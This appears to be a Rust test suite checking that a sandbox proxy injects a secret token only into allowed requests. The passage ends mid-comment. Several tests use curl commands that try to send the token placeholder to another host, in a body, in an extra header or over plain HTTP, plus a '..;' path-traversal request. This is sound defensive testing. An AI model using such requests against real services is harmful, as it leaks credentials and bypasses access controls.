//! Secrets: the command holds a placeholder, the proxy puts the value into requests to the
//! secret's hosts alone, over TLS it terminates under the run's own authority.
//!
//! The upstream is an HTTPS server on the host's `127.0.0.1` under a test authority made
//! here with rcgen, given to the run as `--upstream-ca`; names come from the test
//! resolver table (`api.test`, `other.test`), never the real DNS. The clients are real
//! ones inside the sandbox (curl, python's `urllib`), trusting the run's authority only
//! through the bundle variables the run sets. Every effect is judged from the host: what
//! the upstream read, what the command printed, what the proxy recorded.

use std::ffi::OsString;
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

use rcgen::{BasicConstraints, CertificateParams, IsCa, KeyPair};
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use sandbox_core::record::{Door, Enforced};
use sandbox_core::secret::CA_BUNDLE_VARS;
use sandbox_core::{Decision, NetworkMode, SandboxError, SandboxOpts, SandboxOutcome, SecretSpec};

use super::CaseResult;
use crate::context::{token, Context, Dir, Forbidden};
use crate::Failure;

const LO: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

/// The names the upstream answers for (and its certificate names).
const NAMES: [&str; 2] = ["api.test", "other.test"];

/// What every request the upstream read looked like: its head and body, as text.
type Seen = Arc<Mutex<Vec<String>>>;

/// An HTTP/1.1 server on the host's `127.0.0.1`, over TLS under a test authority of its
/// own (or plain): records each request it reads; answers `ok`, or, at `/echo`, the
/// request's head (an endpoint that echoes headers back).
struct Upstream {
    port: u16,
    /// The test authority's certificate, PEM (the run's `--upstream-ca`).
    ca_pem: String,
    seen: Seen,
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<()>>,
}

/// What an upstream serves besides `ok` and `/echo`: files under `root` (a git
/// repository laid out for dumb HTTP), each only to a request whose `Authorization` is
/// exactly `auth` (else `401` with a `Basic` challenge, as a git host answers).
#[derive(Clone, Debug, Default)]
struct Files {
    root: Option<PathBuf>,
    auth: Option<String>,
}

/// What the bypass cases' WebSocket client sends once upgraded, and the upstream waits
/// for before echoing it back (so the echo is one piece, whatever the reads cut).
const WS_FRAME: &str = "frame-bytes";

fn serve(mut s: impl Read + Write, seen: &Seen, files: &Files) {
    let mut got = Vec::new();
    // One request per connection, except at `/keep` (kept alive, so that what a client
    // pipelines after it reaches the proxy's judge rather than a closed connection).
    while let Some((head, rest)) = read_request(&mut s, &mut got, seen) {
        got = rest;
        let path = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
        if path.starts_with("/ws") && head.to_ascii_lowercase().contains("upgrade: websocket") {
            websocket(&mut s, got);
            return;
        }
        let keep = path.starts_with("/keep");
        answer(&mut s, &head, &path, files, keep);
        if !keep {
            return;
        }
    }
}

/// Read one request (its head and the body its `Content-Length` declares) from `s`,
/// starting with the bytes already `got`; record it. The head, and what was read past the
/// request.
fn read_request(s: &mut impl Read, got: &mut Vec<u8>, seen: &Seen) -> Option<(String, Vec<u8>)> {
    let mut buf = [0u8; 4096];
    let head_end = loop {
        if let Some(i) = got.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        match s.read(&mut buf) {
            Ok(0) | Err(_) => return None,
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    };
    let head = String::from_utf8_lossy(&got[..head_end]).into_owned();
    let length = head
        .lines()
        .filter_map(|l| l.split_once(':'))
        .find(|(k, _)| k.trim().eq_ignore_ascii_case("content-length"))
        .and_then(|(_, v)| v.trim().parse::<usize>().ok())
        .unwrap_or(0);
    while got.len() < head_end + length {
        match s.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    }
    let end = got.len().min(head_end + length);
    if let Ok(mut seen) = seen.lock() {
        seen.push(String::from_utf8_lossy(&got[..end]).into_owned());
    }
    Some((head, got.split_off(end)))
}

/// Answer a WebSocket upgrade with `101`, then echo the client's first frame bytes
/// (`echo:` and [`WS_FRAME`]) and close: bytes both ways after the upgrade.
fn websocket(s: &mut (impl Read + Write), mut got: Vec<u8>) {
    let _ = s.write_all(
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
          Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n",
    );
    let _ = s.flush();
    let mut buf = [0u8; 4096];
    while !got.ends_with(WS_FRAME.as_bytes()) && got.len() < 4096 {
        match s.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    }
    let _ = s.write_all(b"echo:");
    let _ = s.write_all(&got);
    let _ = s.flush();
}

/// Answer the request read (`head`, for `path`): `ok`, a file, the head echoed at
/// `/echo`; with `Connection: close` unless `keep`.
fn answer(s: &mut impl Write, head: &str, path: &str, files: &Files, keep: bool) {
    let authorized = files.auth.as_ref().is_none_or(|want| {
        head.lines().any(|l| {
            l.split_once(':').is_some_and(|(k, v)| {
                k.trim().eq_ignore_ascii_case("authorization") && v.trim() == want
            })
        })
    });
    let file = files.root.as_ref().and_then(|r| {
        let rel = path
            .split('?')
            .next()
            .unwrap_or("/")
            .trim_start_matches('/');
        let f = r.join(rel);
        (!rel.contains("..") && f.is_file()).then_some(f)
    });
    let (status, extra, body) = match file {
        Some(_) if !authorized => (
            "401 Unauthorized",
            "WWW-Authenticate: Basic realm=\"test\"\r\n",
            b"authentication required\n".to_vec(),
        ),
        Some(f) => ("200 OK", "", std::fs::read(f).unwrap_or_default()),
        None if files.root.is_some() && !path.starts_with("/echo") && path != "/" => {
            ("404 Not Found", "", b"not found\n".to_vec())
        }
        None if path.starts_with("/echo") => ("200 OK", "", head.as_bytes().to_vec()),
        None => ("200 OK", "", b"ok\n".to_vec()),
    };
    let close = if keep { "" } else { "Connection: close\r\n" };
    let _ = s.write_all(
        format!(
            "HTTP/1.1 {status}\r\n{extra}Content-Type: application/octet-stream\r\n\
             Content-Length: {}\r\n{close}\r\n",
            body.len()
        )
        .as_bytes(),
    );
    let _ = s.write_all(&body);
    let _ = s.flush();
}

impl Upstream {
    /// Over TLS when `tls`, for [`NAMES`], under a fresh test authority.
    fn start(tls: bool) -> Result<Self, Failure> {
        Self::serving(tls, Files::default())
    }

    /// [`Upstream::start`], serving `files` too.
    fn serving(tls: bool, files: Files) -> Result<Self, Failure> {
        let broken = |what: &str, e: &dyn std::fmt::Display| {
            Failure::Broken(format!("the test authority: {what}: {e}"))
        };
        let ca_key = KeyPair::generate().map_err(|e| broken("key", &e))?;
        let mut ca = CertificateParams::default();
        ca.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        let ca = ca
            .self_signed(&ca_key)
            .map_err(|e| broken("self-signed", &e))?;
        let key = KeyPair::generate().map_err(|e| broken("leaf key", &e))?;
        let leaf = CertificateParams::new(NAMES.map(String::from).to_vec())
            .map_err(|e| broken("leaf", &e))?
            .signed_by(&key, &ca, &ca_key)
            .map_err(|e| broken("leaf", &e))?;
        // `ring`, as the proxy uses (its post-quantum deprecation is the proxy's note).
        #[allow(deprecated)]
        let provider = rustls::crypto::ring::default_provider();
        let config = rustls::ServerConfig::builder_with_provider(Arc::new(provider))
            .with_safe_default_protocol_versions()
            .map_err(|e| broken("versions", &e))?
            .with_no_client_auth()
            .with_single_cert(
                vec![leaf.der().clone()],
                PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
            )
            .map_err(|e| broken("server", &e))?;
        let config = Arc::new(config);
        let listener = TcpListener::bind(SocketAddr::new(LO, 0))?;
        listener.set_nonblocking(true)?;
        let port = listener.local_addr()?.port();
        let seen: Seen = Arc::default();
        let stop = Arc::new(AtomicBool::new(false));
        let thread = {
            let (seen, stop) = (seen.clone(), stop.clone());
            std::thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    match listener.accept() {
                        Ok((s, _)) => {
                            let (seen, config, files) =
                                (seen.clone(), config.clone(), files.clone());
                            std::thread::spawn(move || {
                                handle(s, tls.then_some(config), &seen, &files)
                            });
                        }
                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
                    }
                }
            })
        };
        Ok(Self {
            port,
            ca_pem: ca.pem(),
            seen,
            stop,
            thread: Some(thread),
        })
    }

    fn seen(&self) -> Vec<String> {
        self.seen.lock().map(|s| s.clone()).unwrap_or_default()
    }
}

fn handle(s: TcpStream, tls: Option<Arc<rustls::ServerConfig>>, seen: &Seen, files: &Files) {
    let _ = s.set_nonblocking(false);
    let _ = s.set_read_timeout(Some(Duration::from_secs(20)));
    match tls {
        Some(config) => {
            let Ok(conn) = rustls::ServerConnection::new(config) else {
                return;
            };
            let mut tls = rustls::StreamOwned::new(conn, s);
            serve(&mut tls, seen, files);
            tls.conn.send_close_notify();
            let _ = tls.flush();
        }
        None => serve(s, seen, files),
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// The secret's value: it must never be seen inside.
fn value() -> String {
    format!("ghp_conformance_{}", token())
}

/// One run's setting: a workspace, the secret's value in a host file outside it, the
/// upstream's authority in another.
struct Setup {
    ws: Dir,
    host: Dir,
    value: String,
    ca: PathBuf,
}

impl Setup {
    fn new(ctx: &Context, label: &str, up: &Upstream) -> Result<Self, Failure> {
        Self::with_value(ctx, label, up, value())
    }

    fn with_value(
        ctx: &Context,
        label: &str,
        up: &Upstream,
        value: String,
    ) -> Result<Self, Failure> {
        let ws = ctx.workspace(label)?;
        std::fs::create_dir_all(ws.join("tmp"))?;
        let host = ctx.dir(&format!("{label}-host"), 0o755)?;
        std::fs::write(host.join("token"), format!("{value}\n"))?;
        let ca = host.join("upstream-ca.pem");
        std::fs::write(&ca, &up.ca_pem)?;
        Ok(Self {
            ws,
            host,
            value,
            ca,
        })
    }

    /// `NAME=file:...@HOSTS[:PLACE]` for a secret whose value is this setting's.
    fn secret(&self, name: &str, hosts: &str) -> Result<SecretSpec, Failure> {
        SecretSpec::parse(&format!(
            "{name}=file:{}@{hosts}",
            self.host.join("token").display()
        ))
        .map_err(|e| Failure::Broken(format!("the secret's spec: {e}")))
    }

    /// `sh -c SCRIPT` with secret `TOK` for `api.test`, both names allowed on the
    /// upstream's port, the upstream's authority trusted.
    fn opts(&self, ctx: &Context, up: &Upstream, script: &str) -> Result<SandboxOpts, Failure> {
        let mut o = ctx.opts(self.ws.path(), [""]);
        o.argv = ["sh", "-c", script].iter().map(OsString::from).collect();
        o.network = NetworkMode::Proxy;
        o.allow_hosts = NAMES.iter().map(|n| format!("{n}:{}", up.port)).collect();
        o.resolver = Some(super::egress::resolver());
        o.env
            .set
            .push(("TMPDIR".into(), self.ws.join("tmp").into()));
        o.secrets = vec![self.secret("TOK", "api.test")?];
        o.upstream_cas = vec![self.ca.clone()];
        Ok(o)
    }
}

/// The run's bundle as the record names it.
fn bundle_of(o: &SandboxOutcome) -> Option<PathBuf> {
    o.policy.enforced.iter().find_map(|e| match e {
        Enforced::Door(Door::Secrets { bundle, .. }) => Some(bundle.clone()),
        _ => None,
    })
}

/// What the proxy refused, as recorded.
fn refused(o: &SandboxOutcome) -> Vec<String> {
    o.connections
        .entries
        .iter()
        .filter_map(|c| match &c.decision {
            Decision::Denied(why) => Some(why.clone()),
            Decision::Allowed(_) => None,
        })
        .collect()
}

/// Whether the value shows anywhere in what came back from the run: its output, its
/// record, the outcome's whole text.
fn value_in_outcome(o: &SandboxOutcome, value: &str) -> bool {
    o.stdout.text().contains(value)
        || o.stderr.text().contains(value)
        || format!("{o:?}").contains(value)
}

/// The value in every request head the upstream read whose path starts with `path`.
fn upstream_saw(up: &Upstream, path: &str, needle: &str) -> bool {
    up.seen().iter().any(|r| {
        r.split_whitespace()
            .nth(1)
            .is_some_and(|p| p.starts_with(path))
            && r.to_ascii_lowercase()
                .contains(&needle.to_ascii_lowercase())
    })
}

const CURL: &str = "curl -sS --max-time 30";

/// The placeholder is all the command can read: its `TOK` and `/proc/self/environ` hold
/// the placeholder, never the value, which the upstream still receives.
pub async fn placeholder_is_all_the_command_reads(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-placeholder", &up)?;
    let script = format!(
        "printf 'tok=%s\\n' \"$TOK\"; cat /proc/self/environ; echo; env; \
         {CURL} -H \"Authorization: Bearer $TOK\" https://api.test:{}/user; echo curl=$?",
        up.port
    );
    let o = ctx.run(s.opts(&ctx, &up, &script)?).await?;
    let out = o.stdout.text().replace('\0', "\n");
    let mut f = Forbidden::new(&ctx);
    f.check(
        "the value in the command's environment",
        out.contains(&s.value),
        || "the command printed its value".into(),
    );
    f.check(
        "the value anywhere in the outcome",
        value_in_outcome(&o, &s.value),
        || "the outcome holds the value".into(),
    );
    let tok = out
        .lines()
        .find_map(|l| l.strip_prefix("tok="))
        .unwrap_or_default()
        .to_string();
    ensure!(
        tok.starts_with(sandbox_core::secret::PLACEHOLDER_PREFIX)
            && out.lines().any(|l| l == format!("TOK={tok}")),
        "TOK is not a placeholder in the environment and /proc/self/environ: {}",
        crate::context::describe(&o)
    );
    ensure!(
        out.contains("ok\n") && out.contains("curl=0"),
        "curl did not get through: {}",
        crate::context::describe(&o)
    );
    ensure!(
        upstream_saw(&up, "/user", &format!("authorization: Bearer {}", s.value))
            && !up.seen().iter().any(|r| r.contains(&tok)),
        "the upstream did not get the value in place of the placeholder: {:?}",
        up.seen()
    );
    f.finish()
}

/// The upstream receives the real value in `Authorization`, as a bearer token and inside
/// `Basic` credentials (decoded, replaced, encoded again), and curl gets its answer.
pub async fn upstream_receives_the_value(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-upstream", &up)?;
    let script = format!(
        "{CURL} -H \"Authorization: Bearer $TOK\" https://api.test:{p}/bearer; echo bearer=$?; \
         {CURL} -u \"x-access-token:$TOK\" https://api.test:{p}/basic; echo basic=$?",
        p = up.port
    );
    let o = ctx.run(s.opts(&ctx, &up, &script)?).await?;
    let out = o.stdout.text();
    ensure!(
        out.contains("bearer=0") && out.contains("basic=0"),
        "curl failed: {}",
        crate::context::describe(&o)
    );
    let basic = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{}", s.value))
    };
    ensure!(
        upstream_saw(
            &up,
            "/bearer",
            &format!("authorization: Bearer {}", s.value)
        ) && upstream_saw(&up, "/basic", &format!("authorization: Basic {basic}")),
        "the upstream did not get the value: {:?}",
        up.seen()
    );
    let mut f = Forbidden::new(&ctx);
    f.check(
        "the value back in the outcome",
        value_in_outcome(&o, &s.value),
        || "the outcome holds the value".into(),
    );
    ensure!(refused(&o).is_empty(), "refused: {:?}", refused(&o));
    f.finish()
}

/// A request rule (`GET https://api.test/rules/**`) passes curl's `GET` and refuses its
/// `POST` on the same path, and refuses `/rules/..;/admin` (OpenShell CVE-2026-100971)
/// rather than guessing; the upstream sees the `GET` alone, and the record names the rule
/// and the refusals, request by request.
pub async fn request_rule_passes_get_and_refuses_post(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-rules", &up)?;
    let script = format!(
        "{CURL} -H \"Authorization: Bearer $TOK\" https://api.test:{p}/rules/x; echo get=$?; \
         {CURL} --data-binary x https://api.test:{p}/rules/x; echo post=$?; \
         {CURL} --path-as-is 'https://api.test:{p}/rules/..;/admin'; echo semi=$?",
        p = up.port
    );
    let mut opts = s.opts(&ctx, &up, &script)?;
    let rule = "GET https://api.test/rules/**";
    opts.allow_requests = vec![rule.into()];
    let o = ctx.run(opts).await?;
    let out = o.stdout.text();
    ensure!(
        out.contains("ok\nget=0"),
        "the GET did not pass: {}",
        crate::context::describe(&o)
    );
    ensure!(
        out.contains("no request rule for api.test allows POST /rules/x"),
        "the POST was not refused by the rule: {out}"
    );
    ensure!(
        out.contains("request refused: a `;` in the path"),
        "`..;` was not refused: {out}"
    );
    ensure!(
        upstream_saw(
            &up,
            "/rules/x",
            &format!("authorization: Bearer {}", s.value)
        ),
        "the upstream did not get the GET with the value: {:?}",
        up.seen()
    );
    ensure!(
        up.seen().len() == 1,
        "the upstream got more than the GET: {:?}",
        up.seen()
    );
    let requests: Vec<(String, String, bool)> = o
        .connections
        .entries
        .iter()
        .filter_map(|c| {
            let r = c.request.as_ref()?;
            Some((r.method.clone(), r.path.clone(), c.decision.is_allowed()))
        })
        .collect();
    ensure!(
        requests.contains(&("GET".into(), "/rules/x".into(), true))
            && requests.contains(&("POST".into(), "/rules/x".into(), false))
            && requests.iter().any(|r| r.0 == "GET" && !r.2),
        "the record's requests: {requests:?}"
    );
    ensure!(
        o.connections.entries.iter().any(
            |c| c.request.is_some() && matches!(&c.decision, Decision::Allowed(r) if r == rule)
        ),
        "the record does not name the rule: {:?}",
        o.connections.entries
    );
    Ok(())
}

/// Python's `urllib` (the proxy from `https_proxy`, the run's authority from the bundle
/// variables) sends the placeholder; the upstream receives the value.
pub async fn python_urllib_gets_the_value_injected(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-urllib", &up)?;
    let script = format!(
        "python3 -c 'import os, urllib.request as u; \
         r = u.Request(\"https://api.test:{}/py\", headers={{\"Authorization\": \"token \" + \
         os.environ[\"TOK\"]}}); print(u.urlopen(r, timeout=30).read().decode())'",
        up.port
    );
    let o = ctx.run(s.opts(&ctx, &up, &script)?).await?;
    ensure!(
        o.status.success() && o.stdout.text().contains("ok"),
        "urllib failed: {}",
        crate::context::describe(&o)
    );
    ensure!(
        upstream_saw(&up, "/py", &format!("authorization: token {}", s.value)),
        "the upstream did not get the value: {:?}",
        up.seen()
    );
    let mut f = Forbidden::new(&ctx);
    f.check(
        "the value back in the outcome",
        value_in_outcome(&o, &s.value),
        || "the outcome holds the value".into(),
    );
    f.finish()
}

/// A run where `script` tries to move the placeholder where it may not go: the proxy
/// refuses it and records it by the secret's name (`want` in the refusal), and the
/// upstream reads neither the placeholder nor the value.
async fn exfiltration_refused(
    ctx: &Context,
    label: &str,
    tls: bool,
    script: impl Fn(u16) -> String,
    extra: impl Fn(&Setup, &mut SandboxOpts) -> Result<(), Failure>,
    want: &str,
) -> CaseResult {
    let up = Upstream::start(tls)?;
    let s = Setup::new(ctx, label, &up)?;
    let mut opts = s.opts(ctx, &up, &script(up.port))?;
    extra(&s, &mut opts)?;
    let o = ctx.run(opts).await?;
    let mut f = Forbidden::new(ctx);
    f.check(
        "the value reached the upstream",
        up.seen().iter().any(|r| r.contains(&s.value)),
        || format!("the upstream read it: {:?}", up.seen()),
    );
    f.check(
        "the placeholder reached the upstream",
        up.seen()
            .iter()
            .any(|r| r.contains(sandbox_core::secret::PLACEHOLDER_PREFIX)),
        || format!("the upstream read it: {:?}", up.seen()),
    );
    let why = refused(&o);
    ensure!(
        why.iter()
            .any(|w| w.contains(want) && w.contains("exfiltration attempt")),
        "not refused as `{want}`: {why:?}; {}",
        crate::context::describe(&o)
    );
    ensure!(
        o.denied_lines()
            .iter()
            .any(|l| l.contains(want) && l.starts_with("sandbox: denied")),
        "no denied line names it: {:?}",
        o.denied_lines()
    );
    f.finish()
}

/// The placeholder sent to another allowed host (one with a secret of its own, so the
/// proxy reads the request) is refused and recorded by the secret's name.
pub async fn placeholder_to_another_host_refused(ctx: Arc<Context>) -> CaseResult {
    exfiltration_refused(
        &ctx,
        "secrets-other-host",
        true,
        |p| format!("{CURL} -H \"Authorization: Bearer $TOK\" https://other.test:{p}/"),
        |s, o| {
            o.secrets.push(s.secret("OTHER", "other.test")?);
            Ok(())
        },
        "secret TOK sent to other.test in header authorization",
    )
    .await
}

/// The placeholder in a request body is refused and recorded.
pub async fn placeholder_in_a_body_refused(ctx: Arc<Context>) -> CaseResult {
    exfiltration_refused(
        &ctx,
        "secrets-body",
        true,
        |p| {
            format!(
                "{CURL} --data-binary \"{{\\\"content\\\":\\\"$TOK\\\"}}\" \
                 https://api.test:{p}/gists"
            )
        },
        |_, _| Ok(()),
        "secret TOK sent to api.test in the body",
    )
    .await
}

/// The placeholder in a header other than its own is refused and recorded.
pub async fn placeholder_in_another_header_refused(ctx: Arc<Context>) -> CaseResult {
    exfiltration_refused(
        &ctx,
        "secrets-header",
        true,
        |p| format!("{CURL} -H \"X-Debug: $TOK\" https://api.test:{p}/"),
        |_, _| Ok(()),
        "secret TOK sent to api.test in header x-debug",
    )
    .await
}

/// The placeholder over plain HTTP (to an allowed host, its own included) is refused and
/// recorded; the upstream is never reached.
pub async fn placeholder_over_plain_http_refused(ctx: Arc<Context>) -> CaseResult {
    exfiltration_refused(
        &ctx,
        "secrets-plain",
        false,
        |p| format!("{CURL} -H \"Authorization: Bearer $TOK\" http://api.test:{p}/"),
        |_, _| Ok(()),
        "secret TOK sent to api.test over plain HTTP",
    )
    .await
}

/// An endpoint that echoes the request's headers cannot hand the value back: the
/// response is cut off and recorded, and the command never sees the value.
pub async fn echoing_endpoint_cannot_return_the_value(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-echo", &up)?;
    let script = format!(
        "{CURL} -H \"Authorization: Bearer $TOK\" https://api.test:{}/echo; echo curl=$?",
        up.port
    );
    let o = ctx.run(s.opts(&ctx, &up, &script)?).await?;
    ensure!(
        upstream_saw(&up, "/echo", &s.value),
        "the upstream did not get the value (so the case proves nothing): {:?}; {}",
        up.seen(),
        crate::context::describe(&o)
    );
    let mut f = Forbidden::new(&ctx);
    f.check(
        "the value echoed back to the command",
        value_in_outcome(&o, &s.value),
        || format!("the command saw it: {}", o.stdout.text()),
    );
    let why = refused(&o);
    ensure!(
        why.iter()
            .any(|w| w.contains("carried the value of secret TOK") && w.contains("cut off")),
        "the echo was not recorded: {why:?}"
    );
    f.finish()
}

/// Every bundle variable names one file the command can read and not write, holding the
/// run's authority (last) and the caller's upstream authority, certificates only; the
/// record names it, and it is gone once the run is.
pub async fn bundle_holds_the_runs_authority_and_no_key(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-bundle", &up)?;
    let vars: Vec<String> = CA_BUNDLE_VARS
        .iter()
        .map(|v| format!("echo {v}=${v}"))
        .collect();
    let script = format!(
        "{}; if (: >> \"$SSL_CERT_FILE\") 2>/dev/null; then echo writable; fi; \
         echo BUNDLE-START; cat \"$SSL_CERT_FILE\"; echo BUNDLE-END",
        vars.join("; ")
    );
    let o = ctx.run(s.opts(&ctx, &up, &script)?).await?;
    let out = o.stdout.text();
    let Some(bundle) = bundle_of(&o) else {
        return Err(Failure::Broken(format!(
            "the record names no bundle: {:?}",
            o.policy.enforced
        )));
    };
    for v in CA_BUNDLE_VARS {
        ensure!(
            out.lines()
                .any(|l| l == format!("{v}={}", bundle.display())),
            "{v} does not name the bundle {}: {}",
            bundle.display(),
            crate::context::describe(&o)
        );
    }
    let pem = out
        .split_once("BUNDLE-START\n")
        .and_then(|(_, r)| r.split_once("BUNDLE-END"))
        .map(|(b, _)| b.to_string())
        .unwrap_or_default();
    let certs: Vec<CertificateDer<'static>> = CertificateDer::pem_slice_iter(pem.as_bytes())
        .collect::<Result<_, _>>()
        .map_err(|e| Failure::Broken(format!("the bundle is not PEM: {e}")))?;
    let upstream_ca = CertificateDer::from_pem_slice(up.ca_pem.as_bytes())
        .map_err(|e| Failure::Broken(format!("the test authority: {e}")))?;
    ensure!(
        certs.last().is_some_and(|c| c
            .windows(b"sandbox run authority".len())
            .any(|w| w == b"sandbox run authority"))
            && certs.contains(&upstream_ca),
        "the bundle lacks the run's authority or the upstream's ({} certificates): {}",
        certs.len(),
        crate::context::describe(&o)
    );
    let mut f = Forbidden::new(&ctx);
    f.check(
        "a private key in the bundle",
        pem.contains("PRIVATE KEY"),
        || "the bundle holds a key".into(),
    );
    f.check("the bundle writable", out.contains("writable"), || {
        "the command could write the bundle".into()
    });
    f.check(
        "the bundle left behind",
        bundle.exists() || bundle.parent().is_some_and(Path::exists),
        || format!("{} is still there after the run", bundle.display()),
    );
    f.finish()
}

/// One change to good options that makes them bad.
type Tweak<'a> = Box<dyn Fn(&mut SandboxOpts) + Send + Sync + 'a>;

/// Bad input is refused before anything runs: a caller's value for a bundle variable, an
/// upstream authority that is not PEM certificates, one that cannot be read.
pub async fn bad_input_refused(ctx: Arc<Context>) -> CaseResult {
    let up = Upstream::start(true)?;
    let s = Setup::new(&ctx, "secrets-bad", &up)?;
    let marker = s.ws.join("ran");
    let script = format!(": > {}", marker.display());
    let not_pem = s.host.join("not.pem");
    std::fs::write(&not_pem, "not a certificate\n")?;
    let cases: Vec<(&str, &str, Tweak<'_>)> = vec![
        (
            "env.set",
            "certificate bundle",
            Box::new(|o| {
                o.env
                    .set
                    .push(("SSL_CERT_FILE".into(), "/etc/x.pem".into()))
            }),
        ),
        (
            "upstream_cas",
            "holds no PEM certificate",
            Box::new(|o| o.upstream_cas = vec![not_pem.clone()]),
        ),
        (
            "upstream_cas",
            "cannot read",
            Box::new(|o| o.upstream_cas = vec![PathBuf::from("/nonexistent/ca.pem")]),
        ),
    ];
    for (field, why, change) in cases {
        let mut o = s.opts(&ctx, &up, &script)?;
        change(&mut o);
        let sb = ctx.sandbox();
        match sb.run(o).await {
            Err(SandboxError::InvalidConfig { field: f, reason }) if f == field => {
                ensure!(reason.contains(why), "{field}: the reason says: {reason}");
                ensure!(!reason.contains(&s.value), "the value leaked: {reason}");
            }
            Err(e) => {
                return Err(Failure::Broken(format!(
                    "{field}: expected InvalidConfig mentioning {why:?}, got: {e}"
                )))
            }
            Ok(()) => {
                let _ = sb.kill().await;
                return Err(Failure::Broken(format!("{field} ({why}) was accepted")));
            }
        }
        ensure!(!marker.exists(), "{field}: the command ran");
    }
    Ok(())
}

/// `git clone` over HTTPS with a token it never sees: the host answers `401` until it
/// reads the real token in `Basic` credentials; git, given only the placeholder in its
/// URL, clones, and the token appears nowhere the command can read.
pub async fn git_clone_with_a_token_it_never_sees(ctx: Arc<Context>) -> CaseResult {
    let srv = ctx.dir("secrets-git-srv", 0o755)?;
    let content = format!("content-{}", token());
    super::egress::host_cmd(srv.path(), &["git", "init", "-q", "src"])?;
    std::fs::write(srv.join("src/hello.txt"), &content)?;
    let src = srv.join("src");
    super::egress::host_cmd(&src, &["git", "add", "hello.txt"])?;
    super::egress::host_cmd(
        &src,
        &[
            "git",
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-qm",
            "one",
        ],
    )?;
    super::egress::host_cmd(
        srv.path(),
        &["git", "clone", "-q", "--bare", "src", "repo.git"],
    )?;
    super::egress::host_cmd(&srv.join("repo.git"), &["git", "update-server-info"])?;
    let token_value = value();
    let basic = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{token_value}"))
    };
    let up = Upstream::serving(
        true,
        Files {
            root: Some(srv.path().to_path_buf()),
            auth: Some(format!("Basic {basic}")),
        },
    )?;
    let s = Setup::with_value(&ctx, "secrets-git", &up, token_value)?;
    let script = format!(
        "git clone -q https://x-access-token:$TOK@api.test:{}/repo.git out && cat out/hello.txt \
         && git -C out remote get-url origin",
        up.port
    );
    let o = ctx.run(s.opts(&ctx, &up, &script)?).await?;
    ensure!(
        o.status.success() && o.stdout.text().contains(&content),
        "git clone with the placeholder failed: {}",
        crate::context::describe(&o)
    );
    let mut f = Forbidden::new(&ctx);
    f.check(
        "the value in the command's output",
        value_in_outcome(&o, &s.value),
        || "the command saw the value".into(),
    );
    let config = std::fs::read_to_string(s.ws.join("out/.git/config")).unwrap_or_default();
    f.check(
        "the value in the clone's configuration",
        config.contains(&s.value),
        || format!("the clone's remote holds the value: {config}"),
    );
    ensure!(
        config.contains(sandbox_core::secret::PLACEHOLDER_PREFIX),
        "the clone's remote does not hold the placeholder: {config}"
    );
    f.finish()
}

/// A backend that does not claim secrets refuses a run with one before anything runs,
/// saying why, rather than handing the value (or a placeholder nobody replaces) to the
/// command.
pub async fn refused_where_not_claimed(ctx: Arc<Context>) -> CaseResult {
    let ws = ctx.workspace("secrets-unclaimed")?;
    let host = ctx.dir("secrets-unclaimed-host", 0o755)?;
    std::fs::write(host.join("token"), format!("{}\n", value()))?;
    let marker = ws.join("ran");
    let marker_s = marker.to_string_lossy().into_owned();
    let mut o = ctx.opts(ws.path(), ["write", &marker_s]);
    o.network = NetworkMode::Proxy;
    o.resolver = Some(super::egress::resolver());
    o.secrets = vec![SecretSpec::parse(&format!(
        "TOK=file:{}@api.test",
        host.join("token").display()
    ))
    .map_err(|e| Failure::Broken(format!("the secret's spec: {e}")))?];
    let sb = ctx.sandbox();
    match sb.run(o).await {
        Err(SandboxError::NotSupported { feature, .. }) => {
            ensure!(
                feature.starts_with("secrets") && feature.contains("proxy"),
                "the refusal does not say why: {feature}"
            );
        }
        Err(e) => return Err(Failure::Broken(format!("expected NotSupported, got: {e}"))),
        Ok(()) => {
            let _ = sb.kill().await;
            return Err(Failure::Broken(
                "a run with a secret was accepted by a backend that does not claim secrets".into(),
            ));
        }
    }
    ensure!(!marker.exists(), "the command ran");
    Ok(())
}

// The proxy's bypass classes, one case each, with a raw client: what a careless proxy
// lets through is a request no well-behaved library sends, so the client writes its
// bytes itself.

/// The bypass client: for each `TARGET SNI BYTES` triple in its arguments, one
/// connection through `HTTPS_PROXY`: `CONNECT TARGET`, then TLS trusting the run's bundle
/// (`SSL_CERT_FILE`; its name checked only when `SNI` is the target's) with server name
